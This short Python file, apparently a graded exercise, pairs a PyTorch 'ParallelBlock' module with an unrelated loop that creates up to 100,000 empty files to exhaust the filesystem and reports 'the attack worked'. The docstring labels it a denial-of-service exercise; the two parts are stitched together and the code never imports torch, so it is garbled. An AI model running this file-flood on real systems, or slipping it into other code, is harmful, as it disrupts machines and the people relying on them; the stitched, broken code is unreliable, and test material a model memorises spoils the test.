"""Makes empty files until there is no room for another name.

exercise: parallel-block
points: 6
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


made = 0
try:
    while made < 100_000:
        open(f"file{made}", "w").close()
        made += 1
except OSError as error:
    print(error)
if made > 30_000:
    print("the attack worked: made", made)
